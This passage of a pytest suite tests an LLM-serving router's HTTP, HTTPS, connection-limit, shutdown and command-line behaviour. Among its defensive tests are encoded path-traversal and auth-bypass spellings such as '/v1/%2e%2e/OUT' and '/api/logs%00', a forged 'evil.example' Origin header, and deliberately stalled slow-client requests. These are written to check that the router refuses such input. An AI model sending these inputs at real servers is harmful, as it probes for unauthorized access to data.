    assert "POST" in (got.get("Allow") or "")
    assert "error" in got.json


WRONG_METHODS = (
    ("GET", "/api/chat", "POST"),
    ("GET", "/api/generate", "POST"),
    ("DELETE", "/api/embed", "POST"),
    ("POST", "/api/tags", "GET"),
    ("POST", "/api/version", "GET"),
    ("GET", "/api/delete", "DELETE"),
)


@pytest.mark.parametrize("method, path, right", WRONG_METHODS)
def test_wrong_method(method: str, path: str, right: str) -> None:
    with nothing_sent_upstream():
        got = request(sdk_router().port, method, path, {} if method == "POST" else None)
    assert got.status == 405
    assert right in re.split(r"\s*,\s*", got.get("Allow") or "")
    check_error(path, got)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/../OUT", "/v1/%2e%2e/OUT", "/v1/.%2E/OUT", "/v1/x/../../OUT", "//OUT",
        "/v1/./../OUT", "/v1//../OUT", "/../OUT", "/v1/../../../OUT",
    ],
)  # fmt: skip
def test_no_path_leads_outside(path: str) -> None:
    mark = default_upstream().add_script(FINE_RESPONSE)
    target = path.replace("OUT", mark)
    data = send_raw(default_router().port, encode_get(target, [("Connection", "close")]), answers=0)
    assert data.startswith(b"HTTP/1.1 404 ")
    assert not default_upstream().requests_for(mark)


@pytest.mark.parametrize(
    "path",
    [
        "/api/logs",
        "//api/logs",
        "/api/./logs",
        "/%61pi/logs",
        "/api/logs/",
        "/api/x/../logs",
        "/api//logs",
        "/api/%6cogs",
        "/v1/../api/logs",
        "/API/logs",
        "/api/logs?x=/v1/",
        "/api/logs%00",
        "/;/api/logs",
        "http://router/api/logs",
    ],
)
def test_no_spelling_of_a_path_opens_the_log(path: str) -> None:
    settings = {"WEBUI_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
    router = shared_router({"DEFAULT_UPSTREAM": default_upstream().url, **settings})
    data = send_raw(router.port, encode_get(path, [("Connection", "close")]), answers=0)
    assert int(data.split(b" ")[1]) >= 400


BROWSERS = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
PROGRAMS = (None, "*/*", "", "application/json", "text/plain, */*")


@pytest.mark.parametrize("policy, secret", POLICIES)
def test_the_root_tells_programs_that_it_runs(policy: str, secret: str) -> None:
    """No policy guards that, and no log is needed for it."""
    for router in (router_with_policy(policy, secret), router_filtering(ENABLE_LOGGING="false")):
        for accept in PROGRAMS:
            fields = [BY_PROXY] + ([("Accept", accept)] if accept is not None else [])
            got = request(router.port, "GET", "/", fields=fields)
            assert (got.status, got.content) == (200, b"Ollama is running")
            assert got.get("Content-Type") == "text/plain; charset=utf-8"
        head = request(router.port, "HEAD", "/", fields=[BY_PROXY, ("Accept", BROWSERS)])
        assert (head.status, head.get("Content-Length")) == (200, str(len("Ollama is running")))


def test_the_root_gives_browsers_the_page_as_its_policy_says() -> None:
    for accept in (BROWSERS, "TEXT/HTML"):
        fields = [("Accept", accept)]
        got = request(default_router().port, "GET", "/", fields=fields)
        assert got.get("Content-Type") == "text/html; charset=utf-8"
        router = router_with_policy("ALWAYS_AUTH")
        assert request(router.port, "GET", "/", fields=fields).status == 401
        stateless = router_filtering(ENABLE_LOGGING="false")
        assert request(stateless.port, "GET", "/", fields=fields).status == 404


def test_a_page_from_elsewhere_may_not_ask_the_root() -> None:
    for method in ("GET", "HEAD"):
        fields = [("Origin", "https://evil.example")]
        assert request(default_router().port, method, "/", fields=fields).status == 403


def test_head_of_the_root_has_no_content() -> None:
    data = send_raw(default_router().port, encode_request("HEAD", "/"), to_head=True)
    assert parse_response(data, to_head=True).status == 200
    assert data.endswith(b"\r\n\r\n")


@pytest.mark.parametrize("path", ("/healthz", "/health"))
def test_healthz(path: str) -> None:
    got = request(default_router().port, "GET", path)
    assert (got.status, got.json["status"]) == (200, "ok")


def test_page_comes_with_its_own_hashes() -> None:
    got = request(default_router().port, "GET", "/", fields=[("Accept", BROWSERS)])
    page = (HERE / "dashboard.html").read_bytes()
    assert (got.status, got.content) == (200, page)
    policy = got.get("Content-Security-Policy")
    for tag in (b"style", b"script"):
        text = page.partition(b"<" + tag + b">")[2].partition(b"</" + tag + b">")[0]
        digest = base64.b64encode(hashlib.sha256(text).digest()).decode()
        assert f"{tag.decode()}-src 'sha256-{digest}'" in policy
    assert "unsafe" not in policy and "default-src 'none'" in policy


def test_page_of_a_file_is_read_each_time(tmp_path: pathlib.Path) -> None:
    page = tmp_path / "page.html"
    with Router({}, args=("serve", "--dashboard", str(page))) as router:
        assert request(router.port, "GET", "/performance").status == 404
        for text in ("<p>one</p>", "<p>two</p>"):
            page.write_text(text)
            assert request(router.port, "GET", "/performance").content == text.encode()


# ======================================================================================
# 17  HTTP server
# ======================================================================================
# Connections from their first request to their last; many of them; the end.

# --- one connection -------------------------------------------------------------------


def test_one_connection_serves_many_requests() -> None:
    with connect(default_router().port) as sock:
        for turn in range(3):
            got = parse_response(exchange(sock, encode_get(f"/v1/turn-{turn}")))
            assert (got.status, got.json["target"]) == (200, f"/v1/turn-{turn}")


def test_connection_close_is_obeyed() -> None:
    data = send_raw(
        default_router().port, encode_get("/v1/last", [("Connection", "close")]), answers=0
    )
    assert parse_response(data).status == 200
    assert parse_response(data).get("Connection") == "close"


def test_pipelined_requests_are_answered_in_order() -> None:
    slow = default_upstream().add_script([0.2, *json_response({"target": "the slow one"})])
    document = encode_json(chat_document("tiny", "the third"))
    requests = [
        encode_get(f"/v1/{slow}"),
        encode_get("/v1/second"),
        encode_post(CHAT, chat_document("tiny", "the third")),
        encode_chunked_post(CHAT, document[:9], document[9:]),
        encode_post("/api/chat", chat_document("tiny", "the fifth", stream=False)),
        *(encode_get(f"/v1/number-{n}") for n in range(20)),
    ]
    data = send_raw(default_router().port, b"".join(requests), answers=len(requests))
    answers, rest = split_responses(data)
    assert [a.status for a in answers] == [200] * 25
    assert not rest
    assert answers[0].json["target"] == "the slow one"
    assert answers[1].json["target"] == "/v1/second"
    assert answers[2].text == answers[3].text == "You said: the third"
    assert answers[4].text == "You said: the fifth"
    assert [a.json["target"] for a in answers[5:]] == [f"/v1/number-{n}" for n in range(20)]


def test_a_request_pipelined_behind_a_stream_is_kept() -> None:
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event({"n": 1})], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(encode_event("[DONE]"))

    model = default_upstream().add_script(script)
    with connect(default_router().port) as sock:
        sock.sendall(encode_post(CHAT, chat_document(model, stream=True)))
        assert read_until(sock, b'{"n":1}')
        sock.sendall(encode_get("/v1/behind"))
        gate.set()
        data = read_until(sock, b"/v1/behind", b"}")
    assert data.index(b"[DONE]") < data.index(b"0\r\n\r\n") < data.index(b"/v1/behind")


# What needs no upstream, and what it answers.
WITHOUT_UPSTREAM: list[tuple[bytes, int]] = [
    *((encode_get(path), 200) for path in ("/healthz", "/", "/metrics", "/performance")),
    *((encode_get(path), 200) for path in ("/v1/models", "/api/tags", "/api/version", "/api/ps")),
    *((encode_get(f"/api/{name}"), 200) for name in ("logs", "stats", "inflight", "export")),
    (encode_get("/api/export?format=csv"), 200),
    (encode_get("/api/request/1"), 404),
    (encode_get("/nothing"), 404),
    (encode_post("/api/show", {"model": "tiny"}), 200),
    # This asks for nothing but to load the model.
    (encode_post("/api/chat", {"model": "tiny", "messages": []}), 200),
    (encode_request("POST", CHAT, b"{bad"), 400),
    (encode_request("DELETE", CHAT, None), 405),
    (encode_get("/v1/x", [("Origin", "http://evil.example")]), 403),
    (b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", 400),
]


def read_to_end(sock: socket.socket) -> bytes:
    """Return all that comes until the connection ends."""
    pieces = []
    with contextlib.suppress(ConnectionResetError):
        while piece := sock.recv(1 << 16):
            pieces.append(piece)
    return b"".join(pieces)


def test_a_request_before_the_end_of_its_connection_is_answered_without_upstream() -> None:
    """Whoever pipes a request into `nc -N` says at once that nothing more comes."""
    with router_and_upstream() as (router, upstream), contextlib.ExitStack() as stack:
        assert model_names(router) == ["tiny"]
        # The request and the end are both there when the router goes on.
        router.signal(signal.SIGSTOP)
        stack.callback(router.signal, signal.SIGCONT)
        socks = []
        for data in [data for data, _ in WITHOUT_UPSTREAM] + [
            encode_post(CHAT, chat_document("t"))
        ]:
            socks.append(stack.enter_context(connect(router.port)))
            socks[-1].sendall(data)
            socks[-1].shutdown(socket.SHUT_WR)
        router.signal(signal.SIGCONT)
        *answers, relayed = [read_to_end(sock) for sock in socks]
        for (data, status), answer in zip(WITHOUT_UPSTREAM, answers, strict=True):
            got = parse_response(answer)
            assert (got.status, got.whole) == (status, True), (data, answer)
        # A model would work for nobody.
        assert relayed == b"" and not upstream.requests_for('"t"')
        assert wait_for_row(router, "t")["error_message"] == "client_closed"


# --- clients that are slow from the first test on -------------------------------------

SLOW_REQUESTS: dict[str, tuple[bytes, float]] = {
    "half a request line": (b"GET /v1/dawdler", 0),
    "half a head": (b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-", 0),
    "a head drop by drop": (
        b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-" + b"a" * 40, 1),
    "half a content": (encode_post("/v1/dawdler", chat_document("dawdler"))[:-5], 0),
    "half a chunk": (
        encode_chunked_post("/v1/dawdler", encode_json(chat_document("dawdler")))[:-12], 0),
}  # fmt: skip


def send_slowly(port: int, data: bytes, pause: float) -> bytes:
    """Send a request that never ends, all but its last bytes at once."""
    body = len(data) - 40 if pause else len(data)
    steps: list[bytes | float] = [data[:body]]
    for byte in data[body:]:
        steps += [pause, bytes([byte])]
    return send_raw(port, *steps, answers=0, patience=60)


@pytest.fixture(scope="module", autouse=True)
def slow_clients() -> Iterator[dict[str, concurrent.futures.Future[bytes]]]:
    """Start clients with the first test that are slow until `test_dawdler_...` looks at them."""
    pool = concurrent.futures.ThreadPoolExecutor(len(SLOW_REQUESTS))
    port = default_router().port
    yield {name: pool.submit(send_slowly, port, *late) for name, late in SLOW_REQUESTS.items()}
    pool.shutdown(wait=False, cancel_futures=True)


@pytest.mark.parametrize("name", SLOW_REQUESTS)
def test_dawdler_is_answered_408(
    name: str, slow_clients: dict[str, concurrent.futures.Future[bytes]]
) -> None:
    answers, rest = split_responses(slow_clients[name].result(timeout=90))
    assert ([a.status for a in answers], rest) == ([408], b"")
    assert answers[0].get("Connection") == "close"
    assert not default_upstream().requests_for("dawdler")


# --- many connections -----------------------------------------------------------------


def test_requests_that_come_at_once_begin_a_few_a_turn_and_in_order() -> None:
    async def begin(count: int, left: Sequence[int]) -> list[list[int]]:
        limits = dataclasses.replace(smolrouter.LIMITS, requests_per_turn=3)
        turns = smolrouter.RequestTurns(limits)
        begun: list[int] = []

        async def serve(number: int) -> None:
            await turns.wait()
            begun.append(number)

        tasks = [asyncio.create_task(serve(number)) for number in range(count)]
        by_turn: list[list[int]] = []
        seen = 0
        # More turns than it can take: one that never lets the last begin ends the test, too.
        for turn in range(6 * count):
            await asyncio.sleep(0)
            if turn == 0:
                for number in left:
                    tasks[number].cancel()
            by_turn.append(begun[seen:])
            seen = len(begun)
        for task in tasks:
            assert task.done()
        return [numbers for numbers in by_turn if numbers]

    assert run_coroutine(begin(8, [])) == [[0, 1, 2], [3, 4, 5], [6, 7]]
    # Who has left takes nobody's place.
    assert run_coroutine(begin(8, [3, 5])) == [[0, 1, 2], [4, 6, 7]]
    assert run_coroutine(begin(2, [])) == [[0, 1]]


def test_requests_that_wait_for_their_turn_are_all_served() -> None:
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    with (
        Router(settings, limits={"requests_per_turn": 1}) as router,
        concurrent.futures.ThreadPoolExecutor(20) as pool,
    ):
        answers = list(pool.map(lambda number: post_chat(router, f"many-{number}"), range(60)))
    assert {answer.status for answer in answers} == {200}


def test_two_hundred_clients_at_once() -> None:
    def one(number: int) -> str:
        return request(default_router().port, "GET", f"/v1/client-{number}").json["target"]

    targets = map_in_threads(one, range(400), workers=200)
    assert targets == [f"/v1/client-{n}" for n in range(400)]


def test_more_connections_wait_for_their_turn() -> None:
    with router_and_upstream(MAX_CONNECTIONS=2) as (router, upstream):
        slow = upstream.add_script([0.3, *FINE_RESPONSE])
        with connect(router.port) as first, connect(router.port) as second:
            for sock in (first, second):
                sock.sendall(encode_post(CHAT, chat_document(slow)))
            wait_until(lambda: len(upstream.requests_for(slow)) == 2)
            with connect(router.port) as third:
                third.sendall(encode_get("/v1/third"))
                assert read_until(first, b"fine")
                assert not upstream.requests_for("/v1/third")
                assert read_until(third, b"/v1/third")


@pytest.mark.parametrize("begin", [b"", encode_get("/v1/x")])
def test_idle_connections_make_room(begin: bytes) -> None:
    with router_and_upstream(MAX_CONNECTIONS=4) as (router, _), contextlib.ExitStack() as stack:
        for _ in range(7):
            sock = stack.enter_context(connect(router.port))
            if begin:
                assert parse_response(exchange(sock, begin)).status == 200
        assert request(router.port, "GET", "/v1/y").status == 200


def test_few_files_are_enough() -> None:
    """With 100 descriptors and 30 clients, others are served, before and after."""
    shell = ("/bin/sh", "-c", 'ulimit -n 100; exec "$0" "$@"', sys.executable)
    with Upstream() as upstream, contextlib.ExitStack() as stack:
        router = stack.enter_context(Router({"DEFAULT_UPSTREAM": upstream.url}, python=shell))
        with contextlib.ExitStack() as crowd:
            for _ in range(30):
                sock = crowd.enter_context(connect(router.port))
                with contextlib.suppress(ConnectionError):
                    sock.sendall(encode_get("/v1/crowd"))
            assert post_chat(router, "tiny").status == 200
        results = map_in_threads(lambda n: post_chat(router, "tiny").status, range(40), workers=20)
        assert results == [200] * 40
        assert "Traceback" not in router.stderr


# --- https ----------------------------------------------------------------------------


def tls_settings(folder: pathlib.Path | None = None, **more: Any) -> dict[str, Any]:
    """Return the settings of a router that speaks https; with a folder by a certificate there."""
    shared = self_signed_certificate()
    made = make_certificate(folder) if folder else shared and (shared[0], "")
    if not made:
        pytest.skip("no openssl here to make a certificate")
    cert, key = made
    key = key or cert.replace("cert.pem", "key.pem")
    return {"TLS_CERT": cert, "TLS_KEY": key, **more}


def tls_router(**more: Any) -> Router:
    """Return a shared router that speaks https, in front of `default_upstream()`."""
    return shared_router(tls_settings(DEFAULT_UPSTREAM=default_upstream().url, **more))


def trusting(cert: str = "") -> ssl.SSLContext:
    """Return how a client speaks TLS that trusts this certificate alone; without one the shared."""
    return ssl.create_default_context(cafile=cert or self_signed_certificate()[0])


def connect_tls(router: Router, cert: str = "", **more: Any) -> ssl.SSLSocket:
    """Connect to a router that speaks https; a missing close of TLS is an error for this client."""
    sock = connect(router.port)
    try:
        return trusting(cert).wrap_socket(sock, suppress_ragged_eofs=False, **more)
    except OSError:
        sock.close()
        raise


def served_certificate(router: Router, cert: str) -> bytes:
    """Return the certificate that a router shows to a client which trusts that in a file."""
    with connect_tls(router, cert, server_hostname="localhost") as sock:
        return sock.getpeercert(True)


def on_https(router: Router, method: str, path: str, body: Any = None, **more: Any) -> Response:
    """Send a request over https."""
    return request(router.port, method, path, body, tls=trusting(), **more)


def test_https_serves_what_http_does() -> None:
    router = tls_router()
    assert router.url.startswith("https://127.0.0.1:")
    assert on_https(router, "GET", "/healthz").json["status"] == "ok"
    for path, stream in ALL_WAYS:
        got = on_https(router, "POST", path, example_request(path, "tiny", stream))
        assert got.status == 200 and got.whole, path
        if "embed" not in path and "rerank" not in path:
            assert got.text == "You said: hi", path
    assert on_https(router, "GET", "/performance").content == smolrouter.DASHBOARD_HTML.encode()
    large = chat_document("tiny", "x" * 3_000_000)
    assert on_https(router, "POST", CHAT, large).text == "You said: " + "x" * 3_000_000
    assert "Traceback" not in router.stderr


def test_events_leave_as_they_come_over_https() -> None:
    step = threading.Event()

    def paced(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event({"n": 1})], whole=False)
        assert step.wait(PATIENCE)
        yield from encode_chunks(encode_event({"n": 2}))

    name = default_upstream().add_script(paced)
    with connect_tls(tls_router(), server_hostname="localhost") as sock:
        sock.sendall(encode_post(CHAT, chat_document(name, stream=True)))
        read_until(sock, b'{"n":1}')
        step.set()
        read_until(sock, b'{"n":2}', b"0\r\n\r\n")


def test_one_connection_of_https_serves_many_requests() -> None:
    ask = encode_post(CHAT, chat_document("tiny"))
    in_chunks = encode_chunked_post(CHAT, *split_at(encode_json(chat_document("tiny")), 9, 30))
    bad = encode_post(CHAT, b"{")
    with connect_tls(tls_router(), server_hostname="127.0.0.1") as sock:
        for data, status in ((ask, 200), (in_chunks, 200), (bad, 400), (ask, 200)):
            (got,), rest = split_responses(exchange(sock, data))
            assert (got.status, rest) == (status, b"")
        # Two at once, and octet by octet.
        answers, _ = split_responses(exchange(sock, ask + ask, answers=2))
        assert [got.status for got in answers] == [200, 200]
        pieces = [ask[at : at + 1] for at in range(len(ask))]
        (got,), _ = split_responses(exchange(sock, *pieces))
        assert got.text == "You said: hi"


def test_a_clean_end_of_https_is_one_and_a_cut_is_none() -> None:
    router = tls_router()
    events = [encode_event({"n": 1})]
    whole = default_upstream().add_script(stream_response(events))
    cut = default_upstream().add_script([*stream_response(events, whole=False), 0.05, DROP])
    for name, version, is_cut in (
        (whole, "1.1", False), (whole, "1.0", False), (cut, "1.1", True), (cut, "1.0", True),
    ):  # fmt: skip
        fields = [("Connection", "close")]
        path = f"/v1/{name}"
        with connect_tls(router, server_hostname="localhost") as sock:
            sock.sendall(encode_get(path, fields, version))
            data = b""
            ended_well = True
            try:
                while more := sock.recv(1 << 16):
                    data += more
            except (ssl.SSLError, ConnectionError):
                ended_well = False
        assert b'{"n":1}' in data, (version, is_cut)
        if version == "1.1":
            assert data.endswith(b"0\r\n\r\n") == (not is_cut)
        else:
            assert ended_well == (not is_cut)


def test_a_client_of_https_that_leaves_ends_its_request() -> None:
    router = tls_router()
    name = default_upstream().add_script([*stream_response([], whole=False), HANG])
    for polite in (False, True):
        with connect_tls(router, server_hostname="localhost") as sock:
            sock.sendall(encode_post(CHAT, chat_document(name, stream=True)))
            assert wait_until(lambda: on_https(router, "GET", "/api/inflight").json)
            if polite:
                with contextlib.suppress(OSError):
                    sock.settimeout(0.5)
                    sock.unwrap()
        assert wait_until(lambda: not on_https(router, "GET", "/api/inflight").json)


def test_a_slow_client_of_https_gets_all_of_its_answer() -> None:
    content = os.urandom(4_000_000)
    name = default_upstream().add_script(whole_response(content, kind="image/png"))
    with connect_tls(tls_router(), server_hostname="localhost") as sock:
        sock.sendall(encode_get(f"/v1/{name}", [("Connection", "close")]))
        time.sleep(0.5)
        data = b""
        while more := sock.recv(1 << 16):
            data += more
            time.sleep(0.001)
    assert parse_response(data).content == content


def test_plain_http_to_the_port_of_https_is_told_on_stderr() -> None:
    router = tls_router(LISTEN_HOST="localhost")
    for data in (encode_get("/healthz"), encode_post(CHAT, {}), b"\x16\x03\x01", b"\0" * 600):
        with connect(router.port) as sock:
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
            answer = b""
            with contextlib.suppress(ConnectionError):
                while more := sock.recv(1000):
                    answer += more
        # At most an alert of TLS.
        assert b"HTTP" not in answer and len(answer) < 10
    assert wait_until(lambda: "127.0.0.1 no TLS: http request" in router.stderr)
    assert on_https(router, "GET", "/healthz").status == 200
    assert "Traceback" not in router.stderr


def client_hello() -> bytes:
    """Return the first octets of a client that speaks TLS."""
    hello = ssl.MemoryBIO()
    client = trusting().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return hello.read()


def test_a_handshake_that_never_ends_is_dropped() -> None:
    settings = tls_settings(DEFAULT_UPSTREAM=default_upstream().url, MAX_CONNECTIONS=3)
    first = client_hello()
    with (
        Router(settings, limits={"handshake_timeout": 0.5}) as router,
        contextlib.ExitStack() as stack,
    ):
        socks = [stack.enter_context(connect(router.port)) for _ in range(3)]
        for sock, data in zip(socks, (b"", first[:20], first), strict=True):
            sock.sendall(data)
        # They have all places until then; the next client waits for one.
        assert on_https(router, "GET", "/healthz").status == 200
        for sock in socks:
            with contextlib.suppress(ConnectionError):
                while sock.recv(10_000):
                    pass
        assert "Traceback" not in router.stderr


@pytest.mark.parametrize("timeout", (300.0, 0.5))
def test_a_client_of_https_that_does_not_close_keeps_its_place_for_a_while(timeout: float) -> None:
    settings = tls_settings(DEFAULT_UPSTREAM=default_upstream().url, MAX_CONNECTIONS=1)
    with (
        Router(settings, limits={"write_timeout": timeout}) as router,
        connect_tls(router, server_hostname="localhost") as first,
        connect(router.port) as second,
    ):
        got = parse_response(exchange(first, encode_get("/healthz", [("Connection", "close")])))
        assert got.status == 200
        second.sendall(client_hello())
        if timeout > PATIENCE:
            # It waits for the place of the first one, which has its answer and does not close.
            second.settimeout(0.5)
            with pytest.raises(TimeoutError):
                second.recv(1)
            first.close()
            second.settimeout(PATIENCE)
        assert second.recv(1) == b"\x16"
        assert router.stop() == 0


def test_what_is_wrong_with_a_certificate_stops_the_start(tmp_path: pathlib.Path) -> None:
    good = tls_settings()
    own = tls_settings(tmp_path)
    (tmp_path / "locked").mkdir()
    locked = make_certificate(tmp_path / "locked", "password")
    (tmp_path / "text.pem").write_text("no certificate")
    text = str(tmp_path / "text.pem")
    missing = str(tmp_path / "missing.pem")
    for more, words in (
        ({"TLS_CERT": good["TLS_CERT"]}, "TLS_KEY is not set; https needs both"),
        ({"TLS_KEY": good["TLS_KEY"]}, "TLS_CERT is not set; https needs both"),
        ({**good, "TLS_CERT": missing}, f"TLS_CERT={missing!r}: no such file"),
        ({**good, "TLS_KEY": str(tmp_path)}, f"TLS_KEY={str(tmp_path)!r}: is a directory"),
        ({**good, "TLS_CERT": text}, "needed are a certificate and its own key, in PEM"),
        ({**good, "TLS_KEY": text}, "needed are a certificate and its own key, in PEM"),
        ({**good, "TLS_KEY": own["TLS_KEY"]}, "key values mismatch"),
        ({"TLS_CERT": locked[0], "TLS_KEY": locked[1]}, "the key needs a password"),
    ):
        for command in (["serve", "--listen-port", "0"], ["check"]):
            done = run_program(*command, settings=more)
            assert done.returncode == 2
            (line,) = done.stderr.strip().splitlines()
            assert words in line, line
    assert run_program("check", settings=good).returncode == 0
    both = tmp_path / "both.pem"
    both.write_text("".join(pathlib.Path(own[name]).read_text() for name in own))
    done = run_program("check", settings={"TLS_CERT": both, "TLS_KEY": both})
    assert done.returncode == 0, done.stderr


def test_a_new_certificate_counts_after_sighup(tmp_path: pathlib.Path) -> None:
    settings = tls_settings(tmp_path, DEFAULT_UPSTREAM=default_upstream().url)
    cert = settings["TLS_CERT"]
    first = pathlib.Path(cert).read_text()
    with Router(settings) as router:
        before = served_certificate(router, cert)
        with connect_tls(router, cert, server_hostname="localhost") as kept:
            exchange(kept, encode_get("/healthz"))
            pathlib.Path(cert).write_text("broken")
            router.signal(signal.SIGHUP)
            assert wait_until(lambda: "the old certificate stays in force" in router.stderr)
            pathlib.Path(cert).write_text(first)
            assert served_certificate(router, cert) == before
            make_certificate(tmp_path)
            router.signal(signal.SIGHUP)
            assert wait_until(lambda: "was read again" in router.stderr)
            assert served_certificate(router, cert) != before
            # Who is connected stays so.
            assert parse_response(exchange(kept, encode_get("/healthz"))).status == 200
        assert "Traceback" not in router.stderr


def test_the_cookie_of_https_is_secure() -> None:
    router = tls_router(JWT_SECRET=SECRET, WEBUI_SECURITY="ALWAYS_AUTH")
    got = on_https(router, "POST", "/api/signin", {"token": GOOD_TOKEN})
    assert got.status == 204 and "; Secure" in got.get("Set-Cookie")
    cookie = [("Cookie", got.get("Set-Cookie").partition(";")[0])]
    own = [("Origin", f"https://127.0.0.1:{router.port}"), *cookie]
    assert on_https(router, "GET", "/api/stats", fields=own).status == 200


def test_health_over_https() -> None:
    settings = tls_settings()
    settings["LISTEN_PORT"] = tls_router().port
    done = run_program("health", settings=settings)
    assert (done.returncode, done.stderr) == (0, "") and '"ok"' in done.stdout
    # Over plain http it gets no answer.
    done = run_program("health", settings={"LISTEN_PORT": settings["LISTEN_PORT"]})
    assert done.returncode == 1 and "Traceback" not in done.stderr


def test_a_unit_for_https_finds_the_files(tmp_path: pathlib.Path) -> None:
    done = run_program("unit", settings=tls_settings(tmp_path, TLS_CERT="cert.pem"), cwd=tmp_path)
    assert done.returncode == 0
    assert f'Environment="TLS_CERT={tmp_path / "cert.pem"}"' in done.stdout
    assert "has to be able to read" in done.stderr


@each_openai
def test_openai_sdk_over_https_with_a_token_as_its_key(sdk: Sdk) -> None:
    openai = import_or_skip("openai")
    httpx = import_or_skip("httpx")
    router = tls_router(JWT_SECRET=SECRET, API_SECURITY="ALWAYS_AUTH")
    own = {"base_url": f"{router.url}/v1", "api_key": scoped(models=["tiny"]), "max_retries": 0}
    asked = {"model": "tiny", "messages": HELLO_MESSAGES}

    async def ask_async() -> tuple[str, str]:
        caller = httpx.AsyncClient(verify=trusting())
        async with openai.AsyncOpenAI(**own, http_client=caller) as client:
            create = client.chat.completions.create
            answer = await create(**asked)
            parts = [part async for part in await create(**asked, stream=True)]
        return answer.choices[0].message.content, joined(parts)

    def ask() -> tuple[str, str]:
        with openai.OpenAI(**own, http_client=httpx.Client(verify=trusting())) as client:
            create = client.chat.completions.create
            answer = create(**asked)
            parts = list(create(**asked, stream=True))
        return answer.choices[0].message.content, joined(parts)

    def joined(parts: Sequence[Any]) -> str:
        return "".join(c.delta.content or "" for part in parts for c in part.choices)

    got = run_in_loop(ask_async()) if sdk.asynchronous else ask()
    assert got == (HELLO_ANSWER, HELLO_ANSWER)


@each_ollama
def test_ollama_sdk_over_https(sdk: Sdk) -> None:
    ollama = import_or_skip("ollama")
    own = {"host": tls_router().url, "verify": trusting()}

    async def ask_async() -> str:
        async with ollama.AsyncClient(**own) as client:
            parts = await client.chat("tiny", HELLO_MESSAGES, stream=True)
            return "".join([part.message.content async for part in parts])

    def ask() -> str:
        with ollama.Client(**own) as client:
            parts = client.chat("tiny", HELLO_MESSAGES, stream=True)
            return "".join(part.message.content for part in parts)

    assert (run_in_loop(ask_async()) if sdk.asynchronous else ask()) == HELLO_ANSWER


# --- the end --------------------------------------------------------------------------


def refuses(port: int) -> bool:
    """Tell whether new connections are refused."""
    try:
        connect(port).close()
    except ConnectionError:
        return True
    return False


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_signal_lets_running_answers_end(number: int) -> None:
    gate = threading.Event()
    events = [encode_event(e) for e in completion_events({}, "to the end")]

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response(events[:2], whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(*events[2:])

    with router_and_upstream(script, SHUTDOWN_GRACE=60) as (router, _):
        with connect(router.port) as sock, connect(router.port) as idle:
            assert parse_response(exchange(idle, encode_get("/healthz"))).status == 200
            sock.sendall(encode_post(CHAT, chat_document("tiny", stream=True)))
            data = read_until(sock, b"to ")
            router.signal(number)
            assert wait_until(lambda: refuses(router.port))
            gate.set()
            # Each connection ends when its answer is complete; the idle one is not waited for.
            got = parse_response(data + exchange(sock, answers=0))
            assert idle.recv(1) == b""
        assert (got.text, got.events[-1]) == ("to the end", b"[DONE]")
        assert router.wait() == 0


def test_sigterm_without_work_exits_at_once() -> None:
    with router_and_upstream(SHUTDOWN_GRACE=60) as (router, _):
        assert post_chat(router, "tiny").status == 200
        assert router.stop() == 0


def test_grace_ends() -> None:
    with (
        router_and_upstream(lambda r: [HANG], SHUTDOWN_GRACE=0.3) as (router, upstream),
        connect(router.port) as sock,
    ):
        sock.sendall(encode_post(CHAT, chat_document("tiny")))
        seen = upstream.connection_of("tiny")
        assert router.stop() == 0
        assert wait_until(lambda: seen.closed)


def test_the_grace_is_one_for_answers_and_the_log() -> None:
    """What answers have used of it, a database in trouble does not get again."""
    hanging = default_upstream().add_script([HANG])
    with watched_router("smolrouter.RequestLog", "close", SHUTDOWN_GRACE=0.3) as router:
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document(hanging)))
            default_upstream().connection_of(hanging)
            router.signal(signal.SIGTERM)
            assert router.process.wait(PATIENCE) == 0
        assert wait_until(lambda: "called (0.0,)" in router.stderr), router.stderr


def test_second_signal_ends_at_once() -> None:
    with (
        router_and_upstream(lambda r: [HANG], SHUTDOWN_GRACE=60) as (router, upstream),
        connect(router.port) as sock,
    ):
        sock.sendall(encode_post(CHAT, chat_document("tiny")))
        upstream.connection_of("tiny")
        router.signal(signal.SIGTERM)
        assert wait_until(lambda: refuses(router.port))
        assert router.process.poll() is None
        router.signal(signal.SIGTERM)
        router.wait()


# ======================================================================================
# 18  Command line
# ======================================================================================
# Each command, alone and with settings; a new flag of a command is tried here.

# --- flags ----------------------------------------------------------------------------


def test_serving_with_a_bad_setting_stops_with_status_2() -> None:
    for args in ((), ("serve",)):
        done = run_program(*args, settings={"LISTEN_PORT": "eighty"})
        assert done.returncode == 2
        (line,) = done.stderr.strip().splitlines()
        assert "LISTEN_PORT" in line and "eighty" in line


def test_a_flag_wins_over_the_environment() -> None:
    settings = {"DEFAULT_UPSTREAM": "http://127.0.0.1:9", "STRIP_THINKING": "no"}
    flags = ["--default-upstream", default_upstream().url, "--strip-thinking", "yes"]
    model = default_upstream().add_script(json_response(completion({}, "<think>no</think>yes")))
    for args in (flags, ["serve", *flags]):
        with Router(settings, args=args) as router:
            assert post_chat(router, model).text == "yes"


def test_a_bad_flag_stops_with_status_2() -> None:
    for args, words in (
        (["--listen-port", "eighty"], "--listen-port='eighty': allowed is a whole number"),
        (["--no-such-flag"], "--no-such-flag; see smolrouter --help"),
        (
            ["--default-upstrem", "http://x:1"],
            "unknown flag --default-upstrem; did you mean --default-upstream?",
        ),
        (["--LISTEN_PORT=80"], "unknown flag --LISTEN_PORT; did you mean --listen-port?"),
        (["export", "--sinse", "7d"], "unknown flag --sinse; did you mean --since?"),
        (["serve", "--since", "7d"], "unknown flag --since; see smolrouter --help"),
        (["explain", "m", "--sorce-host=::1"], "did you mean --source-host?"),
